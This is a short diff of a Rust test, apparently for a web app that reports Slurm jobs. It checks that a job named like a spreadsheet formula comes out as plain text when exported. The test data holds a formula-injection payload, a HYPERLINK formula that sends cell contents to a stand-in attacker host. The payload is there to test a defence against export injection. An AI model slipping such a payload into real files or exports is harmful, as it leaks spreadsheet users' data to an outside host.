@@ -79,7 +79,10 @@ async fn pages_and_answers_carry_the_security_headers_and_a_nonce_policy() {
 
 #[tokio::test(flavor = "multi_thread")]
 async fn a_job_named_like_a_formula_exports_as_text() {
-    let out = slurm("sbatch", &["--parsable", "-J", "=HYPERLINK(\"https://evil.example/?\"&A1)", "-o", "/dev/null", "--wrap", "true"]);
+    let out = slurm(
+        "sbatch",
+        &["--parsable", "-J", "=HYPERLINK(\"https://evil.example/?\"&A1)", "-o", "/dev/null", "--wrap", "true"],
+    );
     let job: u32 = out.trim().split(';').next().and_then(|id| id.parse().ok()).expect("a job id");
     let app = spawn_app(test_config(AnonymousAccess::Staff)).await;
     // slurmdbd records the submission within seconds, and the name (quotes turned to backquotes) once
